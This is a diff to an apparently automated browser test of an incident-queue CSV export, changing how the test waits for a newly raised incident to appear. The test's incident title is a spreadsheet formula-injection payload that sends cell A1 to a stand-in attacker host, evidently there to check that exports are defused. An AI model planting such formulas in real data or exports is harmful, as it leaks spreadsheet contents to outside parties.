@@ -86,9 +86,12 @@ test("an analyst exports the queue's view as CSV, every page and only its filter
   const report = `Open report ${Date.now()}`;
   const title = `=HYPERLINK("https://evil.example/?d="&A1,"${report}")`;
   await raiseIncident(request, PROSEWARE_TENANT_ID, title, { severity: "high" });
-  await signInAs(page, "Sam Analyst", "/incidents?range=180d");
-  await page.getByRole("button", { name: "Refresh" }).click();
-  await expect(page.getByRole("status").filter({ hasText: "Refreshed" })).toContainText("Refreshed 2 of 2 tenants", { timeout: 30_000 });
+  // In the store after the next sync (a refresh right after one reuses it).
+  await signInAs(page, "Sam Analyst", `/incidents?range=180d&q=${encodeURIComponent(report)}`);
+  await expect(async () => {
+    await page.reload();
+    await expect(page.getByRole("link", { name: title })).toBeVisible({ timeout: 1_000 });
+  }).toPass({ timeout: 30_000 });
 
   for (const filter of ["", "&severity=high"]) {
     await page.goto(`/incidents?range=180d${filter}&page=2`);
